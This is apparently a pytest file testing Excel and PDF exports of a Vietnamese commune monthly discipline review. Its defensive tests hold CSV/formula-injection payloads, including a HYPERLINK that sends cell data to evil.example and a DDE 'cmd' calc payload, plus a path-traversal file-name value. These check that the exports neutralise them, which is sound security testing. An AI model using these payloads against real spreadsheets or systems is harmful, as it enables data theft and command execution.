"""The Excel and PDF exports carry exactly the figures the page shows (same MonthlyReview, same column lists)."""
from __future__ import annotations

import datetime as dt
import io
from collections import Counter

import openpyxl
import pytest
from sqlalchemy import select

from dashboard.review_export import (
    PDF_INCIDENT_LIMIT,
    PDF_TEXT_LIMIT,
    TABLE_ROW,
    pdf_bytes,
    pdf_text,
    sheets,
    xlsx_bytes,
)
from dashboard.review_tables import cell_value, headings, shown, text_table
from data.access import SYSTEM
from data.review.report import build_review
from data.schema import AuditEntry
from pdf_text import pdf_chunks

pytestmark = pytest.mark.store
MARCH = dt.date(2026, 3, 1)
NOW = dt.datetime(2026, 4, 2, 3, 0, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def review(review_engine):
    engine, store = review_engine
    return build_review(engine, SYSTEM, store.commune_a, MARCH), store


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_xlsx_cells_are_the_review_values(review, lang):
    r, _ = review
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(r, lang, "kiemtra", NOW)))
    assert len(book.sheetnames) == len(sheets(r))
    for ws, (_, df, cols) in zip(book.worksheets, sheets(r)):
        cols = shown(cols, df)
        rows = list(ws.iter_rows(min_row=TABLE_ROW, values_only=True))
        assert list(rows[0]) == headings(cols, lang)
        expected = [[_as_read(cell_value(c.kind, v, lang)) for c, v in zip(cols, values)]
                    for values in df[[c.key for c in cols]].itertuples(index=False)]
        assert [list(row) for row in rows[1:]] == expected, ws.title


def _as_read(value):
    # Excel keeps dates as date-times.
    if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
        return dt.datetime.combine(value, dt.time())
    return value


def test_xlsx_desk_row_by_hand(review):
    r, store = review
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(r, "vi", "kiemtra", NOW)))["Quầy"]
    header = [c.value for c in ws[TABLE_ROW]]
    row = next(dict(zip(header, [c.value for c in cells])) for cells in ws.iter_rows(min_row=TABLE_ROW + 1)
               if cells[0].value == "Quầy A")
    assert (row["Tỷ lệ có mặt (%)"], row["Vi phạm vắng"], row["Phút vắng"], row["Mở muộn"], row["Đóng sớm"],
            row["Trang phục, thẻ (%)"], row["± có mặt (điểm %)"]) == (90.0, 2, 90, 1, 1, 83.33, -7.78)


def test_pdf_shows_every_figure_of_the_page(review):
    r, _ = review
    chunks = pdf_chunks(pdf_bytes(r, "vi", "kiemtra", NOW))
    assert "BÁO CÁO KIỂM ĐIỂM THÁNG 03/2026" in chunks
    assert "Đơn vị: Huyện Bình Gia › Xã Hoa Thám" in chunks
    assert "Lập lúc 02/04/2026 10:00 bởi kiemtra" in chunks
    have = Counter(chunks)
    for _, df, cols in sheets(r):
        table = text_table(df, tuple(c for c in shown(cols, df) if c.kind != "text"), "vi")
        need = Counter(v for v in table.to_numpy().ravel() if v)
        missing = need - have
        assert not missing, missing
    assert "90,00 %" in chunks and "83,33 %" in chunks


def test_pdf_points_to_excel_for_long_incident_lists(review):
    r, _ = review
    from dataclasses import replace

    import pandas as pd

    many = replace(r, incidents=pd.concat([r.incidents] * (PDF_INCIDENT_LIMIT // max(len(r.incidents), 1) + 1)))
    chunks = pdf_chunks(pdf_bytes(many, "en", "admin", NOW))
    assert len(many.incidents) > PDF_INCIDENT_LIMIT
    assert f"The list of {len(many.incidents)} absence incidents is in the Excel file." in chunks
    assert "02/03/2026 07:30" not in chunks  # no incident rows printed


def test_export_is_audited(review_engine, review):
    from dashboard.review_queries import export_file

    engine, _ = review_engine
    r, _ = review
    url = engine.url.render_as_string(hide_password=False)
    data = export_file(url, SYSTEM, r, "xlsx", "vi", NOW)
    assert data[:2] == b"PK"
    with engine.connect() as c:
        rows = c.execute(select(AuditEntry.actor, AuditEntry.action, AuditEntry.target, AuditEntry.unit_id)
                         .where(AuditEntry.action == "export")).all()
    assert [tuple(x) for x in rows] == [("system", "export", f"review:{r.unit_id}:2026-03", r.unit_id)]


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_column_fast_paths_write_what_cell_text_writes(review, lang):
    import pandas as pd

    from dashboard.review_tables import cell_text, column_text

    r, _ = review
    for _, df, cols in sheets(r):
        for c in shown(cols, df):
            assert column_text(c.kind, df[c.key], lang) == [cell_text(c.kind, v, lang) for v in df[c.key]], c.key
    odd = pd.Series([pd.Timestamp("2026-03-02 00:59:00.900", tz="UTC"), pd.NaT], dtype="datetime64[us, UTC]")
    assert column_text("datetime", odd, lang) == ["02/03/2026 07:59", "–"]
    assert column_text("text", pd.Series([None, float("nan"), "Quầy A"], dtype=object), lang) == ["", "", "Quầy A"]


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Xem")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")


def _typed_by_users(r):
    """The review with every text cell (names, reasons, explanations, notes) typed as a formula."""
    from dataclasses import replace

    frames = {}
    for field, (_, df, cols) in zip(("summary", "units", "desks", "staff", "incidents", "violations", "findings"),
                                    sheets(r)):
        df = df.copy()
        for k, c in enumerate(c for c in shown(cols, df) if c.kind == "text"):
            df[c.key] = [FORMULAS[(k + i) % len(FORMULAS)] for i in range(len(df))]
        frames[field] = df
    return replace(r, title=FORMULAS[0], **frames)  # the summary sheet's unit column is the title


def test_xlsx_writes_users_formulas_as_text(review):
    r, _ = review
    typed = _typed_by_users(r)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(typed, "vi", "=cmd|' /C calc'!A0", NOW)))
    checked = set()
    for ws, (_, df, cols) in zip(book.worksheets, sheets(typed)):
        cols = shown(cols, df)
        # The lines on top carry the unit's name and the user's name: text too.
        assert all(ws.cell(i, 1).data_type == "s" for i in range(1, TABLE_ROW - 1)), ws.title
        for row in ws.iter_rows(min_row=TABLE_ROW + 1):
            for cell, c in zip(row, cols):
                if c.kind == "text":
                    assert cell.data_type == "s" and cell.value.startswith("'"), (ws.title, c.key, cell.value)
                    assert cell.value[1:] in FORMULAS
                    checked.add(c.key)
        assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row), ws.title
    assert {"staff_name", "staff", "desk_name", "unit_label", "excuse_reason", "explanation", "notes"} <= checked
    # Numbers stay numbers: a negative change is not a formula to neutralise.
    desks = book["Quầy"]
    header = [c.value for c in desks[TABLE_ROW]]
    changes = [row[header.index("± có mặt (điểm %)")] for row in desks.iter_rows(min_row=TABLE_ROW + 1)]
    assert any(c.data_type == "n" and c.value is not None and c.value < 0 for c in changes)


def test_pdf_prints_long_texts_clipped_with_a_pointer_to_excel(review):
    from dataclasses import replace

    r, _ = review
    long_text = ("Giải trình rất dài " * 110)[:2000]  # the longest explanation the form takes
    unbroken = "x" * 2000  # a pasted link or a stuck key: no space to wrap at
    name = "Nguyễn Văn " + "A" * 289  # a 300-character staff name
    incidents = r.incidents.assign(explanation=long_text, excuse_reason=unbroken, staff=name)
    violations = r.violations.assign(explanation=unbroken, excuse_reason=long_text, staff=name)
    findings = r.findings.assign(notes=long_text + "\n" * 50, conclusion=unbroken, staff_name=name)
    staff = r.staff.assign(staff_name=name)
    assert len(incidents) and len(violations) and len(findings)
    data = pdf_bytes(replace(r, title=name, incidents=incidents, violations=violations, findings=findings,
                             staff=staff), "vi", "kiemtra", NOW)
    assert data[:4] == b"%PDF"
    text = "".join(pdf_chunks(data)).replace(" ", "")  # wrapped lines lose the space they broke at
    assert "…(xembảnExcel)" in text
    assert long_text[:PDF_TEXT_LIMIT].replace(" ", "") in text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Quầy 1", "Quầy 1"),
        ("a" * 10, "a" * 10),
        ("a" * 11, "a" * 10 + " …"),
        ("1\n2\r\n\n  3\t4", "1 2 3 4"),
        ("một hai ba bốn năm", "một hai ba …"),
        ("", ""),
    ],
)
def test_pdf_text_is_one_line_cut_at_the_limit(text, shown):
    assert pdf_text(text, "…", limit=10) == shown


# Issue 13: files fit to file — every sheet says what it is, whose rows, with a filter; the PDF has the
# official header, numbered sections, right-aligned Vietnamese figures and the signature block.

@pytest.mark.parametrize("lang", ["vi", "en"])
def test_every_sheet_says_what_it_is_with_a_unit_column_and_a_filter(review, lang):
    from openpyxl.utils import get_column_letter

    from dashboard.review_files import title_lines

    r, _ = review
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(r, lang, "kiemtra", NOW)))
    unit = "Đơn vị" if lang == "vi" else "Unit"
    top = {"vi": ["BÁO CÁO KIỂM ĐIỂM THÁNG 03/2026", "Đơn vị: Huyện Bình Gia › Xã Hoa Thám", "Tháng: 03/2026",
                  "Lập lúc 02/04/2026 10:00 bởi kiemtra"],
           "en": ["MONTHLY DISCIPLINE REVIEW 03/2026", "Unit: Huyện Bình Gia › Xã Hoa Thám", "Month: 03/2026",
                  "Generated 02/04/2026 10:00 by kiemtra"]}[lang]
    assert title_lines(r, lang, "kiemtra", NOW) == top
    for ws, (_, df, cols) in zip(book.worksheets, sheets(r)):
        assert [ws.cell(i, 1).value for i in range(1, 5)] == top, ws.title
        heading = [c.value for c in ws[TABLE_ROW]]
        assert unit in heading, ws.title
        units = [row[heading.index(unit)] for row in ws.iter_rows(min_row=TABLE_ROW + 1, values_only=True)]
        assert len(units) == len(df) and all(units), ws.title
        last = get_column_letter(len(shown(cols, df)))
        assert ws.auto_filter.ref == f"A{TABLE_ROW}:{last}{TABLE_ROW + len(df)}", ws.title
        assert ws.freeze_panes == f"A{TABLE_ROW + 1}"
    assert len(book["Vi phạm vắng mặt" if lang == "vi" else "Absence incidents"]["A"]) > TABLE_ROW  # rows listed


def test_file_names_carry_month_and_unit(review):
    from dataclasses import replace

    from dashboard.review_export import file_name

    r, _ = review
    assert file_name(r, "vi", "xlsx") == "kiem-diem-2026-03-xa-hoa-tham.xlsx"
    assert file_name(r, "en", "pdf") == "review-2026-03-xa-hoa-tham.pdf"
    typed = replace(r, lineage=("Tỉnh Lạng Sơn", "../../etc/Đồng Đăng\\x:"))
    assert file_name(typed, "vi", "pdf") == "kiem-diem-2026-03-etc-dong-dang-x.pdf"
    assert file_name(replace(r, lineage=(), title="…"), "vi", "xlsx") == "kiem-diem-2026-03.xlsx"


def _after(chunks: list[str], first: str) -> list[str]:
    return chunks[chunks.index(first):]


def test_pdf_has_the_official_header_numbered_sections_and_signatures(review):
    r, _ = review
    chunks = pdf_chunks(pdf_bytes(r, "vi", "kiemtra", NOW))
    # Agency above the unit, the national name and motto, place and date (local: 10:00 on 02/04/2026).
    assert chunks[:5] == ["UBND HUYỆN BÌNH GIA", "UBND XÃ HOA THÁM", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
                          "Độc lập - Tự do - Hạnh phúc", "Hoa Thám, ngày 02 tháng 4 năm 2026"]
    sections = [c for c in chunks if c.split(". ")[0] in ("I", "II", "III", "IV", "V", "VI", "VII")]
    assert sections == ["I. Tổng hợp", "II. Đơn vị", "III. Quầy", "IV. Cán bộ", "V. Vi phạm vắng mặt",
                        "VI. Vi phạm trang phục", "VII. Kiểm tra công vụ"]
    assert _after(chunks, "NGƯỜI LẬP BIỂU")[:6] == ["NGƯỜI LẬP BIỂU", "(Ký, ghi rõ họ tên)", "." * 40,
                                                    "THỦ TRƯỞNG ĐƠN VỊ", "(Ký tên, đóng dấu)", "." * 40]
    # The violation list says what counts beside the rate it goes with.
    assert any(c.startswith("Tỷ lệ trang phục, thẻ: ") and "Vi phạm được tính: 1" in c for c in chunks)


def test_pdf_sections_with_nothing_say_why_and_figures_are_vietnamese_and_right_aligned(review):
    from dataclasses import replace

    from dashboard.review_pdf import column_aligns
    from dashboard.review_tables import INCIDENT_COLS, SUMMARY_COLS

    r, _ = review
    empty = replace(r, violations=r.violations.iloc[0:0], findings=r.findings.iloc[0:0],
                    summary=r.summary.assign(incidents=1282, compliance=93.5))
    chunks = pdf_chunks(pdf_bytes(empty, "vi", "kiemtra", NOW))
    assert _after(chunks, "VI. Vi phạm trang phục")[1] == "Không có vi phạm trang phục, thẻ trong tháng."
    assert _after(chunks, "VII. Kiểm tra công vụ")[1] == "Không có tồn tại nào qua kiểm tra trong tháng."
    assert "Quy định" not in _after(chunks, "VI. Vi phạm trang phục")  # no empty table under it
    summary = _after(chunks, "I. Tổng hợp")
    assert "1.282" in summary[:60] and "93,50 %" in summary[:60]
    aligns = dict(zip((c.key for c in SUMMARY_COLS), column_aligns(SUMMARY_COLS)))
    assert (aligns["incidents"], aligns["coverage"], aligns["coverage_change"]) == ("RIGHT",) * 3
    aligns = dict(zip((c.key for c in INCIDENT_COLS), column_aligns(INCIDENT_COLS)))
    assert (aligns["desk_name"], aligns["start_at"], aligns["seconds"]) == ("LEFT", "LEFT", "RIGHT")


def test_the_province_report_has_one_agency_line(review_engine):
    engine, _ = review_engine
    r = build_review(engine, SYSTEM, None, MARCH)
    chunks = pdf_chunks(pdf_bytes(r, "en", "admin", NOW))
    top = r.lineage[0]
    assert chunks[:4] == [f"UBND {top.upper()}", "SOCIALIST REPUBLIC OF VIET NAM",
                          "Independence - Freedom - Happiness", f"{top.split(' ', 1)[1]}, 02/04/2026"]
